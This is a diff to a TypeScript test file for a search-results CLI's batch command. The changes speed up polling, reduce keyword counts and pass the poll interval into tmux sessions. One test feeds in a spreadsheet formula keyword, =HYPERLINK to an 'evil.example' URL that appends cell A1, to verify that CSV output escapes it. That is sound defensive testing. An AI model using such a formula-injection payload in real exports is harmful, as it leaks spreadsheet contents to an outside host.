@@ -12,6 +12,10 @@ import { cliArgs, cliResult, removeDir, startStack, tempDataDir } from '../suppo
  * under tmux, a kill -9 in the middle of a batch and its resume.
  */
 const missing = fixturesMissing('serp');
+// every CLI this file starts polls its jobs every 200 ms, not every 1.5–2 s (SERP_CLIENT_POLL_MS, docs/configuration.md):
+// a search against the fake Google ends within a second, so the default interval was most of each keyword's time
+const POLL = { SERP_CLIENT_POLL_MS: '200' };
+Object.assign(process.env, POLL);
 if (missing) {
   t.plan(0, missing);
 } else {
@@ -32,7 +36,8 @@ if (missing) {
     );
 
   t.test('batch › JSONL: every keyword once, whole results, a summary with the rate', async (t) => {
-    const keywords = Array.from({ length: 12 }, (_, i) => `batch jsonl ${i}`);
+    // six keywords, each a whole top 100 (ten pages): more than the four in flight at once, so the batch queues
+    const keywords = Array.from({ length: 6 }, (_, i) => `batch jsonl ${i}`);
     const out = join(dir, 'a.jsonl');
     const res = await cliResult(
       [
@@ -59,11 +64,11 @@ if (missing) {
     );
     t.match(
       res.stderr,
-      /batch: 12\/12 keywords done \(0 failed\) in [\d.]+ s: 12 submits at [\d.]+\/min \(key allows 600\/min; \d+ from cache\), [\d.]+ keywords done\/min/,
+      /batch: 6\/6 keywords done \(0 failed\) in [\d.]+ s: 6 submits at [\d.]+\/min \(key allows 600\/min; \d+ from cache\), [\d.]+ keywords done\/min/,
     );
     t.match(
       res.stderr,
-      /batch: \d+\/12 done, 0 failed \| submits [\d.]+\/min \(key allows 600\/min; \d+ from cache\) \| done [\d.]+\/min/,
+      /batch: \d+\/6 done, 0 failed \| submits [\d.]+\/min \(key allows 600\/min; \d+ from cache\) \| done [\d.]+\/min/,
       'plain progress lines when stderr is not a terminal',
     );
     t.same(
@@ -115,11 +120,14 @@ if (missing) {
   t.test('batch › CSV: a keyword that is a spreadsheet formula lands as text', async (t) => {
     const keyword = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
     const out = join(dir, 'formula.csv');
+    // one page (--depth 10): every row of it carries the keyword; the whole top 100 is the test above
     const res = await cliResult([
       'batch',
       keywordsFile('formula.txt', [keyword]),
       '--out',
       out,
+      '--depth',
+      '10',
       '--base-url',
       url,
       '--key',
@@ -127,7 +135,7 @@ if (missing) {
     ]);
     t.equal(res.code, 0, res.stderr.slice(-500));
     const rows = parse(readFileSync(out, 'utf8'), { columns: true }) as Array<Record<string, string>>;
-    t.ok(rows.length >= 90, `${rows.length} rows`);
+    t.ok(rows.length >= 5, `${rows.length} rows`);
     t.ok(
       rows.every((r) => r.keyword === `'${keyword}`),
       'the keyword cell starts with a quote mark, so no spreadsheet runs it',
@@ -260,6 +268,8 @@ if (missing) {
   });
 
   const tmux = spawnSync('tmux', ['-V']).status === 0;
+  // a tmux server already running gives a new session its own environment, not this process's
+  const pollEnv = `env SERP_CLIENT_POLL_MS=${POLL.SERP_CLIENT_POLL_MS}`;
   if (!tmux && process.env.CI === 'true') throw new Error('tmux is required under CI (.ci/run installs it)');
   t.test('batch › the progress bar on a terminal (tmux)', { skip: tmux ? false : 'tmux not installed' }, async (t) => {
     const keywords = Array.from({ length: 20 }, (_, i) => `batch bar ${i}`);
@@ -286,7 +296,7 @@ if (missing) {
     ]
       .map((a) => `'${a}'`)
       .join(' ');
-    spawnSync('tmux', ['new-session', '-d', '-s', session, '-x', '160', '-y', '12', `${cmd}; sleep 30`]);
+    spawnSync('tmux', ['new-session', '-d', '-s', session, '-x', '160', '-y', '12', `${pollEnv} ${cmd}; sleep 30`]);
     t.teardown(() => void spawnSync('tmux', ['kill-session', '-t', session]));
     let screen = '';
     let sawBar = false;
@@ -312,7 +322,17 @@ if (missing) {
     const cmd = [process.execPath, ...cliArgs, 'search', 'batch single', '--depth', '10', '--base-url', url]
       .map((a) => `'${a}'`)
       .join(' ');
-    spawnSync('tmux', ['new-session', '-d', '-s', session, '-x', '160', '-y', '12', `${cmd} --key '${key}'; sleep 30`]);
+    spawnSync('tmux', [
+      'new-session',
+      '-d',
+      '-s',
+      session,
+      '-x',
+      '160',
+      '-y',
+      '12',
+      `${pollEnv} ${cmd} --key '${key}'; sleep 30`,
+    ]);
     t.teardown(() => void spawnSync('tmux', ['kill-session', '-t', session]));
     let screen = '';
     const deadline = Date.now() + 60_000;
